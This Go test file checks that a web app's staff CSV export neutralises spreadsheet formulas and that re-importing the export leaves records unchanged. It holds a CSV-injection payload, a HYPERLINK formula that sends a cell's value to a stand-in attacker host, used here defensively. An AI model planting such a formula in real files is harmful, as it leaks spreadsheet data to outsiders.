package web_test

import (
	"encoding/csv"
	"net/url"
	"strings"
	"testing"
)

// TestAbuse13RecordCSVExportRunsNoFormula imports a place named with a
// spreadsheet formula, =HYPERLINK(…): the desk's CSV export writes it as
// text a spreadsheet does not run, and importing that export changes
// nothing, the name included.
func TestAbuse13RecordCSVExportRunsNoFormula(t *testing.T) {
	t.Parallel()
	e := newEnv(t)
	c := e.client()
	c.login("admin")
	name := `=HYPERLINK("http://evil.example/?leak="&A1,"Details")`
	file := "id,kind,country,name.en,citations[].source,citations[].quote\n" +
		`formula-place,place,BY,"` + strings.ReplaceAll(name, `"`, `""`) + `",ichongqing-2021-02-01,"@SUM(1+1)"` + "\n"
	if res := c.upload("e.csv", file, url.Values{"kind": {"entity"}}); res.Status != 200 || !strings.Contains(res.Body, "1 created") {
		t.Fatalf("import: %d\n%.600s", res.Status, res.Body)
	}
	exp := c.get("/staff/record/export/entity.csv")
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(exp.Body, "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for _, row := range rows {
		for _, cell := range row {
			if strings.HasPrefix(cell, "=") || strings.HasPrefix(cell, "@") {
				t.Errorf("the export has a cell a spreadsheet runs: %q", cell)
			}
		}
	}
	if !strings.Contains(exp.Body, `'=HYPERLINK(`) {
		t.Fatalf("the name is missing from the export:\n%.600s", exp.Body)
	}
	if res := c.upload("entity.csv", exp.Body, url.Values{"kind": {"entity"}}); res.Status != 200 || !strings.Contains(res.Body, "0 created, 0 updated") {
		t.Fatalf("re-import of the export: %d\n%.600s", res.Status, res.Body)
	}
	if got := recordFields(t, e, "entity", "formula-place"); got.Get("name.en") != name || got.Get("citations[].quote") != "@SUM(1+1)" {
		t.Fatalf("the import of the export changed the place: %v", got)
	}
}
